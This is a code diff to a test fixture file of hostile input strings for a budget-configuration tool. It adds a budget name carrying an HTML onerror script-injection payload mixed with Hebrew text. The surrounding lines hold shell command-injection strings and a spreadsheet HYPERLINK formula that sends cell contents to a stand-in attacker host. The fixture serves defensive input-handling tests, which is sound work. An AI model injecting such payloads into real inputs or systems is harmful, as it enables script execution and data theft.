@@ -12,6 +12,8 @@ export const EMOJI = "🦊 mödel 🚀";
 export const LONG = "long-".repeat(60);
 export const SHELL = "it's $(touch hurt) `touch hurt`; touch hurt";
 export const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")';
+/** Names of budgets have no slashes, and at most 40 characters. */
+export const BUDGET = `<img src=x onerror=hurt=1> עברית`;
 export const HOSTILE = [HTML, RIGHT_TO_LEFT, EMOJI, LONG, SHELL, FORMULA];
 
 /** A model that is in no price table. */
@@ -176,7 +178,7 @@ limit = 60
 per = "month"
 
 [[budget]]
-name = ${JSON.stringify(HTML)}
+name = ${JSON.stringify(BUDGET)}
 limit = "4.50"
 per = "week"
 model = "claude-*"
